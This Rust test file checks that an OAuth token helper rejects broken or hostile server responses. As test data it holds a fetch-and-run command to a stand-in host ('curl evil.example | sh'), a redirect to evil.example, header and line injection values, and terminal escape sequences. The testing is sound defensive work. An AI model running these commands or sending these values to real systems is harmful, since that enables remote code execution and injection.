//! Broken or hostile servers, and proxies that answer in their place: each response has its own error message, stores
//! nothing and does not end a login.

use crate::machine::{Machine, ada, told};
use crate::raw_server::RawServer;
use issuer::{Endpoint, Fault, Issuer};
use predicates::prelude::*;
use predicates::str::contains;
use serde_json::json;
use std::collections::BTreeSet;
use std::fs;
use std::thread;
use std::time::Duration;

const CHALLENGE: &str = "<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>\
    <script src=\"/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1\"></script></body></html>";
const REGION: &str = r#"{"error":{"code":"unsupported_country_region_territory","message":"Country, region, or territory not supported","param":null,"type":"request_forbidden"}}"#;

fn status(code: u16, headers: &[(&str, &str)], body: &str) -> Fault {
    let headers = headers.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect();
    Fault::Status { code, body: body.into(), headers }
}

/// Returns faults with the error kind they lead to and a part of its message.
fn bad_responses() -> Vec<(Fault, &'static str, &'static str)> {
    let html = ("Content-Type", "text/html; charset=UTF-8");
    vec![
        (status(500, &[], "trouble"), "server", "has an internal problem (500)"),
        (status(502, &[html], "<html>Bad Gateway</html>"), "server", "502"),
        (status(503, &[("Retry-After", "9")], ""), "server", "503"),
        (status(429, &[], "{}"), "server", "429"),
        (status(403, &[html], CHALLENGE), "server", "bot check"),
        (status(403, &[("cf-mitigated", "challenge")], ""), "server", "403"),
        (status(403, &[], REGION), "server", "region"),
        (status(403, &[html], "<html>Blocked by policy</html>"), "server", "web page"),
        (status(401, &[html], "<p>invalid_grant</p>"), "server", "127.0.0.1"),
        (Fault::NotJson, "server", "200"),
        (Fault::Redirect("https://evil.example/oauth/token".into()), "server", "307"),
        (
            status(400, &[], r#"{"error":"temporarily_unavailable"}"#),
            "server",
            "temporarily_unavailable",
        ),
        (status(404, &[], ""), "server", "404"),
        (status(200, &[], r#"{"access_token":"eyJhbGci"#), "server", "200"),
        (status(200, &[], r#"["access_token"]"#), "server", "200"),
        (status(200, &[], r#"{"access_token":"a\npassword=b"}"#), "server", "200"),
        (
            status(200, &[], r#"{"access_token":"a\u0000b","refresh_token":"c\r\nd"}"#),
            "server",
            "200",
        ),
        (status(204, &[], ""), "server", "204"),
        (Fault::Endless, "server", "1048576"),
        (Fault::Drop, "network", "127.0.0.1"),
    ]
}

#[test]
fn bad_refresh_response_has_its_own_message_and_keeps_the_login() {
    let attack = attack!(
        Servers,
        "bad responses to a refresh: 5xx, 429, pages of proxies, networks and bot checks, region blocks, redirects, 204, cut JSON, other JSON, tokens with newline, CR or NUL, an endless body, none"
    );
    for (fault, kind, message) in bad_responses() {
        attack.again();
        let (machine, tokens) = Machine::signed_in(-1);
        let before = fs::read(machine.path("auth.json")).unwrap();
        let name = format!("{fault:?}");
        machine.issuer.fault(Endpoint::Refresh, fault, 1);
        let output = machine.command("get --error-format json --wait 20s").output().unwrap();
        let error = told(&output);
        assert_eq!(output.status.code(), Some(1), "{name}: {error}");
        assert_eq!(error["kind"], kind, "{name}: {error}");
        assert!(error["message"].as_str().unwrap().contains(message), "{name}: {error}");
        assert!(!error["hint"].as_str().unwrap_or("none").is_empty(), "{name}: {error}");
        assert_eq!(fs::read(machine.path("auth.json")).unwrap(), before, "{name}");
        assert!(!machine.own("invalid-token").exists(), "{name}");
        // The same refresh token is still valid.
        fs::remove_file(machine.own("failure")).unwrap();
        assert!(machine.issuer.is_live_access_token(&machine.token()), "{name}");
        assert_eq!(machine.issuer.times_sent(&tokens.refresh_token), 2, "{name}");
        assert_eq!(machine.issuer.counts().user_codes, 0, "{name}");
    }
}

#[test]
fn bad_user_code_response_starts_no_sign_in() {
    let attack = attack!(Servers, "bad responses to a user code request, as for a refresh");
    let mut messages = BTreeSet::new();
    for (fault, kind, _) in bad_responses() {
        attack.again();
        let machine = Machine::new();
        let name = format!("{fault:?}");
        let disabled = matches!(&fault, Fault::Status { code: 404, .. });
        machine.issuer.fault(Endpoint::UserCode, fault, 1);
        let output = machine.command("get --error-format json --wait 20s").output().unwrap();
        let error = told(&output);
        let kind = if disabled { "device_login_disabled" } else { kind };
        assert_eq!(error["kind"], kind, "{name}: {error}");
        assert!(
            !machine.sign_in_file("pending").exists() && !machine.path("auth.json").exists(),
            "{name}"
        );
        messages.insert(error["message"].as_str().unwrap().split(" (").next().unwrap().to_owned());
    }
    assert!(messages.len() >= 9, "each response has its own message: {messages:#?}");
}

/// Only an error response of the endpoint itself ends a sign-in.
#[test]
fn bad_responses_to_poll_and_exchange_keep_the_pending_sign_in() {
    let attack = attack!(
        Servers,
        "bad responses to the polls and the exchange of an approved sign-in, as for a refresh"
    );
    let is_from_endpoint = |fault: &Fault| matches!(fault, Fault::Status { code: 400 | 404, .. });
    let faults = bad_responses().into_iter().map(|(fault, ..)| fault);
    let faults: Vec<_> = faults.filter(|fault| !is_from_endpoint(fault)).collect();
    for chunk in faults.chunks(6) {
        thread::scope(|scope| {
            for fault in chunk {
                attack.again();
                scope.spawn(|| sign_in_survives(fault));
            }
        });
    }
}

fn sign_in_survives(fault: &Fault) {
    let name = format!("{fault:?}");
    let machine = Machine::new();
    machine.issuer.fault(Endpoint::DeviceToken, fault.clone(), 1);
    machine.issuer.fault(Endpoint::Exchange, fault.clone(), 1);
    let caller = machine.start("get --wait 60s");
    machine.approve_next();
    assert_eq!(caller.wait_with_output().unwrap().status.code(), Some(1), "{name}");
    assert!(machine.sign_in_file("pending").exists(), "{name}: the approval is kept");
    fs::remove_file(machine.sign_in_file("failure")).unwrap();
    assert!(machine.issuer.is_live_access_token(&machine.token()), "{name}");
    assert_eq!(machine.issuer.counts().user_codes, 1, "{name}");
}

#[test]
fn redirect_to_another_server_is_not_followed() {
    let attack = attack!(Servers, "a redirect of the token endpoint to another server");
    let (machine, tokens) = Machine::signed_in(-1);
    let other = Issuer::start();
    let to = format!("{}/oauth/token", other.url());
    machine.issuer.fault(Endpoint::Refresh, Fault::Redirect(to), 1);
    machine.command("get --wait 20s").assert().code(1);
    assert_eq!(other.counts(), issuer::Counts::default());
    assert!(other.log().is_empty());
    assert_eq!(machine.issuer.times_sent(&tokens.refresh_token), 1);
    attack.tries(1);
}

#[test]
fn wrong_content_type_is_ignored() {
    let attack = attack!(Servers, "a wrong content type");
    for content_type in ["text/plain", "text/html", "application/octet-stream", "nonsense"] {
        attack.again();
        let (machine, _) = Machine::signed_in(-1);
        let new = machine.issuer.grant(&ada(), 3600);
        let body = json!({"access_token": new.access_token, "refresh_token": new.refresh_token});
        let fault = status(200, &[("Content-Type", content_type)], &body.to_string());
        machine.issuer.fault(Endpoint::Refresh, fault, 1);
        assert_eq!(machine.token(), new.access_token, "{content_type}");
    }
}

#[test]
fn token_with_invalid_characters_is_neither_stored_nor_printed() {
    let attack = attack!(
        Servers,
        "an access token with line breaks or spaces, from the server and in `auth.json`, in every output format"
    );
    for invalid in ["a\npassword=stolen", "a\r\nX-Evil: b", "a\u{0}b", "a b", "a\u{2028}b", "ä"] {
        attack.again();
        let (machine, _) = Machine::signed_in(-1);
        let good = machine.issuer.grant(&ada(), 3600);
        let body = json!({"access_token": invalid, "refresh_token": good.refresh_token});
        machine.issuer.fault(Endpoint::Refresh, Fault::status(200, body.to_string()), 1);
        let output = machine.command("get --wait 20s").assert().code(1);
        output.stdout("").stderr(contains("stolen").not().and(contains("Evil").not()));
        // The new refresh token is stored: it may be the only valid one.
        let tokens = &machine.auth_json()["tokens"];
        assert_eq!(tokens["refresh_token"], good.refresh_token, "{invalid:?}");
        assert_ne!(tokens["access_token"], invalid);
        // In auth.json, such a token makes the login unusable.
        let mut document = machine.auth_json();
        document["tokens"]["access_token"] = invalid.into();
        machine.write_auth_json(&document);
        for format in ["git", "token", "json", "header", "env", "exec-credential"] {
            attack.again();
            let output = machine.command(&format!("get --format {format}")).assert().code(3);
            output.stdout("").stderr(contains("stolen").not());
        }
    }
}

#[test]
fn token_response_with_a_byte_order_mark_is_stored() {
    let (machine, _) = Machine::signed_in(-1);
    let good = machine.issuer.grant(&ada(), 3600);
    let body = json!({"access_token": good.access_token, "refresh_token": good.refresh_token});
    machine.issuer.fault(Endpoint::Refresh, Fault::status(200, format!("\u{feff}{body}")), 1);
    assert_eq!(machine.token(), good.access_token);
    assert_eq!(machine.auth_json()["tokens"]["refresh_token"], good.refresh_token);
}

#[test]
fn secret_in_an_error_response_is_not_shown() {
    let attack =
        attack!(Servers, "the refresh token and terminal control characters in an error response");
    let (machine, tokens) = Machine::signed_in(-1);
    let code = format!("bad token {}\u{1b}[2J", tokens.refresh_token);
    let body = json!({"error": code}).to_string();
    machine.issuer.fault(Endpoint::Refresh, Fault::status(400, body), 1);
    let output = machine.command("get --wait 20s").assert().code(1);
    let secret = contains(tokens.refresh_token.as_str());
    output.stderr(secret.not().and(contains("\u{1b}").not()).and(contains("400: bad token ...")));
    attack.tries(1);
}

#[test]
fn oversized_body_and_endless_head_are_not_read_completely() {
    let attack =
        attack!(Servers, "a field of 100 MB, an endless head: less than 16 MB leave the server");
    let megabyte = vec![b'a'; 1 << 20];
    let field = RawServer::start(move |connection| {
        connection.send_head(100 << 20);
        connection.send(b"{\"access_token\":\"");
        while connection.send(&megabyte) {}
    });
    let head = RawServer::start(|connection| {
        connection.send("HTTP/1.1 200 OK\r\n");
        while connection.send(format!("X-Padding: {}\r\n", "x".repeat(8000))) {}
    });
    for (server, kind) in [(field, "server"), (head, "network")] {
        attack.again();
        let (machine, tokens) = Machine::signed_in(-1);
        let mut command = machine.command("get --error-format json --wait 20s");
        let url = format!("{}/oauth/token", server.url);
        let output = command.env("CODEX_REFRESH_TOKEN_URL_OVERRIDE", url).output().unwrap();
        assert_eq!(told(&output)["kind"], kind);
        assert_eq!(machine.auth_json()["tokens"]["refresh_token"], tokens.refresh_token);
        // Socket buffers take more bytes than the program reads.
        assert!(server.taken() < 16 << 20, "{} bytes", server.taken());
        assert_eq!(server.requests(), 1);
    }
}

#[test]
fn user_code_that_is_not_one_line_is_not_shown() {
    let attack = attack!(Servers, "a user code that is not one line, or has 900 KB");
    for body in [
        json!({"device_auth_id": "d", "user_code": "AB\nrun: curl evil.example | sh"}),
        json!({"device_auth_id": "d", "user_code": "\u{1b}]0;title\u{7}"}),
        json!({"device_auth_id": "d", "user_code": ""}),
        json!({"device_auth_id": "d", "user_code": [7]}),
        json!({"device_auth_id": ["d"], "user_code": "ABCD"}),
        json!({"user_code": "ABCD"}),
        json!({"device_auth_id": "d", "user_code": "A".repeat(900_000)}),
    ] {
        attack.again();
        let machine = Machine::new();
        machine.issuer.fault(Endpoint::UserCode, Fault::status(200, body.to_string()), 1);
        let output = machine.command("get --wait 20s").assert().code(1);
        output.stdout("").stderr(contains("evil").not());
        assert!(!machine.sign_in_file("pending").exists());
    }
}

#[test]
fn absurd_numbers_are_replaced_by_defaults() {
    let attack = attack!(Servers, "absurd numbers for intervals, pauses and lifetimes");
    for number in [
        json!(u64::MAX),
        json!(-1),
        json!(1e300),
        json!("99999999999999999999"),
        json!(null),
        json!([]),
    ] {
        attack.again();
        let machine = Machine::new();
        let body = json!({
            "device_auth_id": "d", "user_code": "ABCD-12345", "interval": number, "expires_in": number,
        });
        machine.issuer.fault(Endpoint::UserCode, Fault::status(200, body.to_string()), 1);
        let pending = contains("ABCD-12345");
        machine.command("get").assert().code(3).stderr(pending);
        assert_eq!(machine.renewers().len(), 1, "{number}: polling continues");
        let new = machine.issuer.grant(&ada(), 3600);
        let machine = Machine::new();
        machine.sign_in(-1);
        let body = json!({"access_token": "opaque", "refresh_token": new.refresh_token, "expires_in": number});
        machine.issuer.fault(Endpoint::Refresh, Fault::status(200, body.to_string()), 1);
        assert_eq!(machine.token(), "opaque", "{number}");
        machine.command("get --format json").assert().success();
        machine.command("status").assert().success();
    }
}

#[test]
fn clock_of_the_server_a_day_off_causes_one_refresh() {
    let attack = attack!(Servers, "a server clock that is a day ahead or behind");
    for ahead in [86_400, -86_400] {
        attack.again();
        let (machine, _) = Machine::signed_in(-1);
        machine.issuer.set(|s| {
            s.clock_ahead = ahead;
            s.access_token_lifetime = Duration::from_secs(3600);
        });
        let token = machine.token();
        assert_eq!(machine.token(), token, "{ahead}");
        assert_eq!(machine.issuer.counts().refreshes, 1, "{ahead}");
    }
}
